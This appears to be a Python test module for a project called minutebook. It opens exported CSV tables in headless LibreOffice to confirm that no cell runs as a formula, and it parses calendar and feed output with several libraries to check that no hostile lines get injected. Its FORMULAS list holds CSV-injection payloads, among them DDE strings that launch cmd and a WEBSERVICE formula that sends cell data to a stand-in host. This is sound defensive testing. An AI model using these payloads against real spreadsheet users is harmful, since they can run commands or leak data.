"""What others open: tables in LibreOffice run no formula; calendars and feeds full of hostile text are read by two parsers each."""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import tempfile
import warnings
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree as ET

import feedparser
import icalendar
import vobject

from minutebook.exports import export_files
from minutebook.feeds import feed_files
from minutebook.load import load
from minutebook.settings import Settings
from minutebook.state import State, reckon

from .figures import Absent, Result, some
from .hostilebook import DAY, book
from .payloads import payloads

PROMISE = "Tables hold no formula; calendars and feeds hold no line but ours"
SENTENCE = (
    "{tables} tables full of {formulas} formulas, opened in LibreOffice in {ways} ways, {cells} cells each time: {run} are formulas; {calendars} calendars "
    "read by icalendar and vobject, {feeds} Atom feeds by feedparser, atoma and an XML reader, {json} JSON feeds, full of {payloads} payloads: {unread} "
    "unread, {strange} lines that are not ours"
)

FORMULAS = (
    '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\xa0=1+1', '＝1+1',
    '=HYPERLINK("http://x.example","a")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.example/"&A1)', '=1+1;=2+2', 'x;=1+1',
    'x\t=1+1', 'x\n=1+1', '"=1+1"', "'=1+1", '";=1+1;"', '=SUM(A1:A9)', '=DDE("cmd";"/C calc";"x")', '{=1+1}', '=+1',
    "-2+3+cmd|' /C calc'!A0", '%0A=1+1', '=IMPORTXML(1)', '1=1', '\u200b=1+1', '\ufeff=1+1', '=\u200b1+1', '--1', '+-1', '@a', '－1',
    '＋1', '＠a',
)  # fmt: skip
WAYS = ("CSV:44,34,76,1,,0,false,true,false", "CSV:59/9,34,76,1,,0,false,true,false")
"""How LibreOffice takes a table: divided at commas, or at semicolons and tabs."""

_NAMES = (
    "BEGIN END PRODID VERSION NAME X-WR-CALNAME URL SOURCE REFRESH-INTERVAL X-PUBLISHED-TTL UID DTSTAMP SEQUENCE SUMMARY DESCRIPTION STATUS "
    "DTSTART DTEND LOCATION CONFERENCE TRANSP RELATED-TO TZID TZOFFSETFROM TZOFFSETTO TZNAME RDATE RRULE COMMENT"
)
_OURS = re.compile("(" + "|".join(_NAMES.split()) + ")[:;]")


def measure(part: float) -> Result:
    """Make books of formulas and of a part of the payloads, and open what is made of them."""
    names = ("cells", "ways", "tables", "formulas", "run", "calendars", "feeds", "json", "payloads", "unread", "strange")
    result = Result(dict.fromkeys(names, 0))
    formulas = some(FORMULAS, max(part, 0.3))
    result.counts["formulas"] = len(formulas)
    _spreadsheets(_state([[one] for one in formulas]), result)
    texts = some(payloads(), part)
    result.counts["payloads"] = len(texts)
    for start in range(0, len(texts), 80):
        state = _state([texts[place : place + 8] for place in range(start, min(start + 80, len(texts)), 8)])
        settings = Settings(as_of=DAY, site_name="Book", site_url="https://book.example/")
        for path, data in feed_files(state, settings):
            _read(path, data, result)
    return result


def _state(groups: list[list[str]]) -> State:
    return reckon(load(book(groups)), DAY)


def _spreadsheets(state: State, result: Result) -> None:
    """Open every table in LibreOffice, as somebody does who clicks on it, and look for cells that are formulas."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        raise Absent("there is no LibreOffice; on Debian and Ubuntu: sudo apt install --no-install-recommends libreoffice-calc")
    made = {
        path: data
        for path, data in export_files(state, Settings(as_of=DAY, site_url="https://book.example/")).items()
        if path.endswith(".csv")
    }
    with tempfile.TemporaryDirectory() as scrap:
        files = []
        for path, data in made.items():
            files.append(Path(scrap) / path.replace("/", "-"))
            files[-1].write_bytes(data)
        control = Path(scrap) / "control.csv"
        control.write_text("a,b\n=1+1,2\n", "utf-8")
        command = [office, "--headless", f"-env:UserInstallation=file://{scrap}/profile", "--convert-to", "fods", "--outdir", scrap]
        for infilter in WAYS:
            result.add("ways")
            result.counts["cells"] = 0
            subprocess.run([*command, f"--infilter={infilter}", *files, control], capture_output=True, check=True, timeout=600)
            if not _formulas(control.with_suffix(".fods"))[1]:
                result.wrong.append("LibreOffice ran not even the formula that it was to run")
            for file in files:
                cells, found = _formulas(file.with_suffix(".fods"))
                result.add("cells", cells)
                result.add("run", len(found))
                result.wrong += [f"{file.name}: {one}" for one in found]
    result.add("tables", len(files))


def _formulas(sheet: Path) -> tuple[int, list[str]]:
    """How many cells a sheet has, and those that are formulas."""
    cells, found = 0, []
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    for _event, cell in ET.iterparse(sheet):
        if cell.tag == f"{table}table-cell":
            cells += 1
            if formula := cell.get(f"{table}formula"):
                found.append(formula)
    sheet.unlink()
    return cells, found


def _read(path: str, data: bytes, result: Result) -> None:
    """Let everybody read one file of a feed or a calendar."""
    try:
        if path.endswith(".ics"):
            result.add("calendars")
            calendar = icalendar.Calendar.from_ical(data)
            others = list(vobject.readComponents(io.StringIO(data.decode())))
            events = len(calendar.walk("VEVENT"))
            if calendar.errors or sum(len(one.contents.get("vevent", [])) for one in others) != events:
                raise ValueError(f"{events} events, {calendar.errors}")
            strange = [line for line in _lines(data) if not _OURS.match(line)]
            result.add("strange", len(strange))
            result.wrong += [f"{path}: {line[:200]}" for line in strange]
        elif path.endswith(".atom"):
            result.add("feeds")
            _atom(data)
        elif path.endswith(".json"):
            result.add("json")
            json.loads(data)
    except Exception as error:  # of whatever parser
        result.add("unread")
        result.wrong.append(f"{path}: {error!r}"[:400])


def _lines(data: bytes) -> Iterator[str]:
    """The lines of a calendar, unfolded."""
    yield from (line for line in data.decode().replace("\r\n ", "").split("\r\n") if line)


def _atom(data: bytes) -> None:
    """An Atom feed has as many entries for everybody, and no element that is not Atom's."""
    import atoma  # only this measurement needs it

    tree = ET.fromstring(data)
    wanted = len(tree.findall("{http://www.w3.org/2005/Atom}entry"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        found = feedparser.parse(data)
        other = atoma.parse_atom_bytes(data)
    if found.bozo or len(found.entries) != wanted or len(other.entries) != wanted:
        raise ValueError(f"{wanted} entries, feedparser {len(found.entries)} {found.get('bozo_exception')}, atoma {len(other.entries)}")
    for entry, mine in zip(found.entries, other.entries, strict=True):
        said = (entry.get("title_detail"), entry.get("summary_detail"), *entry.get("content", ()))
        if any(one and "<" in one.value and one.type != "text/plain" for one in said):
            raise ValueError("a text is taken for HTML")
        if not mine.title.value:
            raise ValueError("an entry without a title")
    if strange := [one.tag for one in tree.iter() if not one.tag.startswith("{http://www.w3.org/2005/Atom}")]:
        raise ValueError(f"elements that are not Atom's: {strange[:3]}")
